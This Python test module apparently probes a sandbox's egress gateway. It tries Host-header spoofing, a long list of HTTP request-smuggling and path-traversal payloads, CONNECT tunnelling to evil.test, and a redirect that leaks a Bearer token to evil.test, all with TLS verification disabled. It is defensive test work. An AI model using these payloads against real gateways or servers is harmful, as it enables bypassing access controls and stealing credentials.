"""Requests in requests, on the way to a host whose requests are inspected."""

from __future__ import annotations

import contextlib
import re
import socket
import ssl
import urllib.error
import urllib.request
from typing import Any

from ..loot import Attempt, Nothing, World
from ..wires import ARRIVED, acting
from .addresses import rule

HOST, PORT = "allowed.test", 8443
HEARING = " hearing "
SECRET = "Bearer sesame-of-the-allowed-host"


def inspected(world: World) -> dict[str, Any]:
    """One host, and what may be asked of it."""
    asked = {"methods": ["GET", "POST"], "paths": ["/v1/**", "/to/**"]}
    return {"egress": [rule(HOST, PORT, protocol="https", http=asked)]}


def careless() -> ssl.SSLContext:
    """Whoever answers is believed: what is tried is how far a request gets, and not who answers."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


def send(raw: bytes) -> bytes:
    """Says these bytes in TLS, and returns what the host says that it heard.

    Raises:
        Nothing: They did not arrive.
    """
    with careless().wrap_socket(socket.create_connection((HOST, PORT), 8), server_hostname=HOST) as way:
        way.sendall(raw)
        return heard_by(way)


def heard_by(way: ssl.SSLSocket) -> bytes:
    """What the host says that it heard.

    Raises:
        Nothing: It heard nothing.
    """
    heard = b""
    with contextlib.suppress(OSError):
        while piece := way.recv(65_536):
            heard += piece
    _, found, told = heard.decode("latin-1").partition(HEARING)
    if not found:
        raise Nothing(f"heard {heard[:80]!r}")
    digits = re.match("[0-9a-f]*", told)
    return bytes.fromhex(digits[0] if digits else "")


def _smuggle(raw: bytes, *contraband: bytes) -> str:
    """Has the host hear all of the contraband."""
    heard = send(raw)
    if not all(piece.lower() in heard.lower() for piece in contraband):
        raise Nothing(f"the host heard {heard!r}")
    return f"{ARRIVED}{HOST}, which heard {heard!r}"


def head(*lines: bytes, first: bytes = b"POST /v1/a HTTP/1.1", host: bytes = b"Host: allowed.test:8443") -> bytes:
    """A request's head."""
    return b"\r\n".join([first, host, *lines, b"", b""])


INNER = b"GET /admin HTTP/1.1\r\nHost: allowed.test:8443\r\n\r\n"
LENGTH, CHUNKED = b"Content-Length: 6", b"Transfer-Encoding: chunked"
BOTH = (b"content-length", b"transfer-encoding")

OTHER = Attempt("41", "a Host other than the name in the ClientHello", "gateway", "", inspected)
for _name, _line in {
    "another host": b"Host: evil.test",
    "another port": b"Host: allowed.test:443",
    "a user before the host": b"Host: allowed.test@evil.test",
    "a host behind a comma": b"Host: allowed.test:8443, evil.test",
    "a NUL in the host": b"Host: evil.test\0.allowed.test",
}.items():
    OTHER.theft(_name)(acting(_smuggle, head(first=b"GET /v1/a HTTP/1.1", host=_line), _line.partition(b": ")[2]))

SMUGGLED = Attempt("42", "a request that two servers cut in two ways", "gateway", "", inspected)
PIECES: dict[str, tuple[bytes, ...]] = {
    "a length, then a coding": (head(LENGTH, CHUNKED) + b"0\r\n\r\n" + INNER, *BOTH),
    "a coding, then a length": (head(CHUNKED, LENGTH) + b"0\r\n\r\n" + INNER, *BOTH),
    "two lengths": (head(LENGTH, b"Content-Length: 0") + b"abcdef", b"content-length: 6", b"content-length: 0"),
    "two equal lengths": (head(LENGTH, LENGTH) + b"abcdef", b"length: 6\r\ncontent-length: 6"),
    "a list of lengths": (head(b"Content-Length: 6, 6") + b"abcdef", b"length: 6, 6"),
    "a length with a sign": (head(b"Content-Length: +6") + b"abcdef", b"length: +6"),
    "a coding that only begins alike": (head(b"Transfer-Encoding: chunkedx", LENGTH) + b"abcdef", b"chunkedx"),
    "a coding behind another": (
        head(b"Transfer-Encoding: identity, chunked", LENGTH) + b"abcdef",
        b"identity, chunked",
    ),
    "a coding behind a tab and a line feed": (head(b"X: y\nTransfer-Encoding: chunked", LENGTH), b"transfer-encoding"),
    "a coding on a folded line": (head(b"Transfer-Encoding:\r\n chunked", LENGTH) + b"abcdef", b"chunked"),
    "a space before the colon": (head(b"Transfer-Encoding : chunked", LENGTH) + b"abcdef", b"transfer-encoding"),
    "a carriage return inside a value": (head(b"X: y\rTransfer-Encoding: chunked"), b"y\rtransfer-encoding"),
    "a second Host": (head(b"Host: evil.test", first=b"GET /v1/a HTTP/1.1"), b"evil.test"),
    "a whole target": (head(first=b"GET https://evil.test/ HTTP/1.1"), b"https://evil.test"),
    "CONNECT": (head(first=b"CONNECT evil.test:443 HTTP/1.1"), b"connect evil.test"),
    "CONNECT behind a request": (
        head(first=b"GET /v1/a HTTP/1.1") + head(first=b"CONNECT evil.test:443 HTTP/1.1"),
        b"connect",
    ),
    "a request behind a request": (head(first=b"GET /v1/a HTTP/1.1") + INNER, b"/admin"),
    "a request in a chunk that is longer than it says": (head(CHUNKED) + b"1\r\na" + INNER, b"/admin"),
    "a request behind a chunk's bare line feed": (head(CHUNKED) + b"1\na\n0\n\n" + INNER, b"/admin"),
    "a request in an extension of a chunk": (head(CHUNKED) + b"0;\n" + INNER + b"\r\n\r\n", b"/admin"),
    "bare line feeds": (head(first=b"GET /v1/a HTTP/1.1").replace(b"\r\n", b"\n"), b"/v1/a"),
    "HTTP/2 without its handshake": (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"pri *"),
    "a method that none allows": (head(first=b"DELETE /v1/a HTTP/1.1"), b"delete"),
    "a path that none allows": (head(first=b"GET /admin HTTP/1.1"), b"/admin"),
    "dots": (head(first=b"GET /v1/../admin HTTP/1.1"), b"admin"),
    "escaped dots": (head(first=b"GET /v1/%2e%2e/admin HTTP/1.1"), b"admin"),
    "an escaped slash behind dots": (head(first=b"GET /v1/..%2fadmin HTTP/1.1"), b"admin"),
    "a backslash": (head(first=b"GET /v1/..\\admin HTTP/1.1"), b"admin"),
    "dots with a parameter": (head(first=b"GET /v1/..;/admin HTTP/1.1"), b"admin"),
    "an escape of an escape": (head(first=b"GET /v1/%252e%252e/admin HTTP/1.1"), b"admin"),
    "two slashes": (head(first=b"GET /v1//admin HTTP/1.1"), b"admin"),
    "an upgrade that nobody allows": (
        head(b"Connection: Upgrade", b"Upgrade: h2c", first=b"GET /v1/a HTTP/1.1"),
        b"upgrade: h2c",
    ),
}
for _name, _piece in PIECES.items():
    SMUGGLED.theft(_name)(acting(_smuggle, *_piece))

LED = Attempt("43", "a redirect to a host that no rule names", "gateway", "network namespace", inspected)


@LED.theft("follow it with the credential")
def follow(world: World) -> str:
    """Follows as clients do that hand everything on."""
    opener = urllib.request.build_opener(urllib.request.HTTPSHandler(context=careless()))
    request = urllib.request.Request(f"https://{HOST}:{PORT}/to/evil.test:{PORT}", headers={"Authorization": SECRET})
    try:
        with opener.open(request, timeout=8) as answer:
            told: str = answer.read().decode("latin-1")
    except urllib.error.URLError as refused:
        raise Nothing(str(refused)) from None
    if SECRET.encode().hex() not in told:
        raise Nothing(told)
    return told
